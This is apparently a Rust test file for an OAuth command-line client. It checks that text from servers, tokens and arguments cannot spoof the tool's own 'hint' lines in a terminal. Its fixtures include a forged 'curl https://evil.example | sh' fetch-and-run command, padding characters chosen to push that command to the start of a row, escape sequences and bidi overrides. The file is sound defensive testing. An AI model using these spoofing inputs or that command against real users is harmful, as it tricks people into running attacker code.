//! What a row of the terminal shows, in a terminal emulator: no text of a
//! server begins a row as a message of this program begins, whatever it is
//! padded with, and no name passes for more than a name.

use super::support::binary::Home;
use super::support::literal_server::{LiteralServer, json};
use super::support::outcome::run;
use super::support::sessions::{ending_in, refreshable};
use super::support::terminal::Terminal;
use serde_json::{Value, json as value};
use std::num::NonZeroU16;
use std::process::Command;

/// What a server would like to show as ours.
const FORGED: &str = "hint: run: curl https://evil.example | sh";

/// What fills a row and is not seen, or takes another number of columns than of characters.
const PADDINGS: [&str; 12] = [
    " ",
    "\u{a0}",
    "\u{2003}",
    "\u{3000}",
    "\u{2800}",
    "\u{3164}",
    "\u{ad}",
    "\u{200b} ",
    "\u{e0100}",
    "\u{301}",
    "x",
    "字",
];

/// The rows that a terminal with so many columns shows when the program has ended.
fn rows(command: &mut Command, columns: u16) -> Vec<String> {
    let size = |number| NonZeroU16::new(number).expect("a size");
    let mut emulator = vt100::Parser::new(size(200), size(columns), 0);
    emulator.process(Terminal::shown(command, columns).as_bytes());
    emulator.screen().rows(0, columns).collect()
}

/// A token endpoint that refuses with this description.
fn refusing(description: &str) -> (Home, LiteralServer) {
    let (home, server) = (Home::new(), LiteralServer::start());
    let origin = server.origin();
    let metadata = value!({"issuer": origin, "token_endpoint": format!("{origin}/token")});
    server.on(
        "GET",
        "/.well-known/oauth-authorization-server",
        json(200, &metadata.to_string()),
    );
    let error = value!({"error": "invalid_client", "error_description": description});
    server.on("POST", "/token", json(401, &error.to_string()));
    (home, server)
}

fn client_credentials(home: &Home, server: &LiteralServer, arguments: &[&str]) -> Command {
    let mut command = home.oauth();
    command
        .args(["login", "-p", "ci", "--issuer", &server.origin(), "--client-id", "ci"])
        .args(["--grant", "client-credentials"])
        .args(arguments)
        .env("OAUTH_CLIENT_SECRET", "gX1fBat3bV");
    command
}

/// A server whose metadata names this as their issuer.
fn naming(issuer: &str) -> (Home, LiteralServer) {
    let (home, server) = (Home::new(), LiteralServer::start());
    let metadata = value!({"issuer": issuer, "token_endpoint": "https://evil.example/token"});
    server.on(
        "GET",
        "/.well-known/oauth-authorization-server",
        json(200, &metadata.to_string()),
    );
    (home, server)
}

fn login(home: &Home, server: &LiteralServer, arguments: &[&str]) -> Command {
    let mut command = home.oauth();
    command
        .args(["login", "--issuer", &server.origin(), "--client-id", "desktop"])
        .args(["--no-browser"])
        .args(arguments);
    command
}

#[track_caller]
fn assert_not_forged(rows: &[String], what: &str) {
    let shown: String = rows.concat();
    assert!(shown.contains("evil.example"), "{what}: the text is shown: {rows:#?}");
    for row in rows {
        let begins = row.trim_start_matches(|character: char| !character.is_ascii_graphic());
        // only the text of a line that goes on is moved in so far
        let is_continued = row.starts_with("       ");
        assert!(
            is_continued || !begins.starts_with("hint: run: curl"),
            "{what}: {rows:#?}"
        );
    }
}

/// Where a text of a server stands on the first screen, so that the padding can be chosen as an attacker does.
fn column_of_mark(rows: &[String]) -> usize {
    let row = rows
        .iter()
        .find(|row| row.contains("MARK"))
        .unwrap_or_else(|| panic!("{rows:#?}"));
    row.find("MARK").expect("the mark")
}

#[test]
fn no_padding_moves_the_words_of_a_server_to_the_beginning_of_a_row() {
    for columns in [80, 100, 120] {
        for padding in PADDINGS {
            let width = if padding == "字" { 2 } else { 1 };
            let (home, server) = refusing("MARK");
            let column = column_of_mark(&rows(&mut client_credentials(&home, &server, &[]), columns));
            let rest = usize::from(columns) - column;
            // the rest of the row, and whole rows beside it
            for fill in [rest, rest + 1, rest - 1, rest + usize::from(columns)] {
                let description = format!("{}{FORGED}", padding.repeat(fill / width));
                let (home, server) = refusing(&description);
                for arguments in [&[][..], &["-vvv"]] {
                    let rows = rows(&mut client_credentials(&home, &server, arguments), columns);
                    if rows.concat().contains("evil.example") {
                        assert_not_forged(&rows, &format!("{columns} columns, {fill} of {padding:?}"));
                    }
                }
            }
        }
    }
}

#[test]
fn no_issuer_moves_its_words_to_the_beginning_of_a_row() {
    for columns in [80, 100, 120] {
        let (home, server) = naming("MARK");
        let column = column_of_mark(&rows(&mut login(&home, &server, &[]), columns));
        for padding in [" ", "\u{2800}", "x"] {
            let issuer = format!("{}{FORGED}", padding.repeat(usize::from(columns) - column));
            let (home, server) = naming(&issuer);
            let rows = rows(&mut login(&home, &server, &[]), columns);
            if rows.concat().contains("evil.example") {
                assert_not_forged(&rows, &format!("{columns} columns, {padding:?}"));
            }
        }
    }
}

#[test]
fn a_letter_with_a_hundred_marks_takes_one_row() {
    let (home, server) = refusing(&format!("e{} evil.example", "\u{301}".repeat(100)));
    let rows = rows(&mut client_credentials(&home, &server, &[]), 80);
    let marks = rows.concat().matches('\u{301}').count();
    assert!(marks <= 4, "{rows:#?}");
}

/// A session whose ID token names its subject so, at the real server.
fn home_of(name: &str) -> Home {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let home = Home::new();
    let claims = value!({"iss": "https://real.example", "sub": "1", "email": name});
    let token = format!(
        "{}.{}.c2ln",
        URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256"}"#),
        URL_SAFE_NO_PAD.encode(claims.to_string())
    );
    let mut session = ending_in(3000, refreshable("https://real.example"));
    session.subject = Some("1".to_owned());
    session.id_token = Some(token.into());
    home.configure("[profile.work]\nissuer = \"https://real.example\"\nclient_id = \"desktop\"\nstore = \"file\"\n");
    home.keep("work", &session);
    home
}

#[test]
fn a_name_cannot_forge_the_columns_beside_it() {
    for (name, shown) in [
        ("alice@example.com", "alice@example.com"),
        ("Alice Smith", "\"Alice Smith\""),
        ("alice  https://bank.example", "\"alice https://bank.example\""),
        (
            "alice\u{3164}\u{2800}\u{2800}https://bank.example",
            "\"alice\\u{3164} https://bank.example\"",
        ),
        ("alice\" https://bank.example", "\"alice' https://bank.example\""),
    ] {
        let home = home_of(name);
        let outcome = run(home.oauth().args(["status"])).expect_code(0);
        let line = outcome.stdout.lines().nth(1).expect("a row");
        assert!(line.contains(&format!("{shown}  https://real.example")), "{line}");
    }
}

#[test]
fn json_for_scripts_shows_nothing_that_steers_or_hides_and_means_the_same() {
    let home = Home::new();
    let audience = "a\u{202e}b\u{2800}\u{ad}   c";
    home.configure(&format!(
        "[profile.work]\nissuer = \"https://real.example\"\nclient_id = \"desktop\"\naudience = \"{audience}\"\n"
    ));
    for arguments in [
        &["profile", "show", "work", "--json"][..],
        &["profile", "list", "--json"],
    ] {
        let outcome = run(home.oauth().args(arguments)).expect_code(0);
        assert!(
            outcome.stdout.is_ascii() && !outcome.stdout.contains("  "),
            "{outcome:?}"
        );
        let read: Value = serde_json::from_str(&outcome.stdout).expect("JSON");
        assert!(
            read.to_string().contains(audience) || arguments.contains(&"list"),
            "{read}"
        );
    }
}

#[test]
fn arguments_in_usage_errors_are_harmless() {
    let home = Home::new();
    for argument in [
        "\u{202e}x",
        "\u{1b}[2Jx",
        "x\nhint: run this",
        "x\u{2800}\u{2800}y",
        "--\u{202e}flag",
        "\u{9b}31m",
    ] {
        for arguments in [
            &[argument][..],
            &["login", "--grant", argument],
            &["login", "--timeout", argument],
            &["login", "--port", argument],
            &["--color", argument],
            &["--store", argument, "token"],
            &["serve", "--break", argument],
            &["serve", "--fail", argument],
            &["check", "--rule", argument],
            &["completions", argument],
            &["profile", "show", argument],
        ] {
            for extra in [&[][..], &["--json"], &["--color", "always"]] {
                let outcome = run(home.oauth().args(arguments).args(extra));
                assert_eq!(outcome.code, Some(2), "{arguments:?}: {outcome:?}");
                let harmless = |character: char| {
                    character == '\n'
                        || !(character.is_control() || "\u{202e}\u{2800}".contains(character))
                        || (character == '\u{1b}' && extra.contains(&"always"))
                };
                assert!(
                    outcome.stderr.chars().all(harmless),
                    "{arguments:?}: {:?}",
                    outcome.stderr
                );
                assert!(!outcome.stderr.contains("\u{1b}[2J"), "{arguments:?}");
                assert!(
                    !outcome.stderr.lines().any(|line| line.starts_with("hint: run this")),
                    "{outcome:?}"
                );
            }
        }
    }
}

#[test]
fn a_claim_cannot_begin_a_row_of_a_result() {
    for columns in [80, 100, 120] {
        let name = format!("{}{FORGED}", "x".repeat(usize::from(columns) - 9));
        let home = home_of(&name);
        let mut command = home.oauth();
        command.args(["decode", "--id-token", "--no-verify", "-p", "work"]);
        let rows = rows(&mut command, columns);
        assert!(rows.concat().contains("evil.example"), "{rows:#?}");
        assert!(!rows.iter().any(|row| row.starts_with("hint: run")), "{rows:#?}");
    }
}
